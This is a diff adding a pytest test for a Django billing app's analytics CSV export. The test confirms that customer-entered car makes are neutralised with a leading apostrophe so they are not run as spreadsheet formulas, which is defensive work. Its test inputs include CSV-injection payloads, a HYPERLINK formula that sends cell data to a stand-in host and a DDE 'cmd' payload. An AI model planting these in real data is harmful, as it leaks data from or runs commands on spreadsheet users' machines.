@@ -119,6 +119,33 @@ def test_analytics_dashboard_and_csv(support, admin, customer, make_appointment)
     assert bad.status_code == 400
 
 
+@pytest.mark.parametrize(
+    "make",
+    [
+        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tTab",
+        "\rCR",
+    ],
+)
+def test_analytics_csv_cells_are_never_formulas(make, admin, customer, make_appointment):
+    """#20.6: a car make a customer typed reaches the spreadsheet as text, with a leading '."""
+    import csv
+    import io
+
+    appointment = make_appointment(created_user_id=customer.user_id, scheduled_date="2030-01-10", car_make=make)
+    client = _login(admin)
+    client.post(f"/admin/billing/payments/appointment/{appointment.appointment_id}/", {"payment_method": "cash"})
+    response = client.get("/admin/billing/analytics/export.csv", {"start_date": "2030-01-01", "end_date": "2030-01-31"})
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    makes = [row for row in rows if row[0] == "vehicle_make"]
+    assert makes == [["vehicle_make", "'" + make, "1"]]
+    assert ["summary", "total_revenue", "280"] in rows  # numbers stay numbers
+
+
 @pytest.mark.django_db(transaction=True)
 def test_browser_confirm_payment_and_download_invoice(portal_login, live_server, admin, customer, make_appointment):
     appointment = make_appointment(created_user_id=customer.user_id)
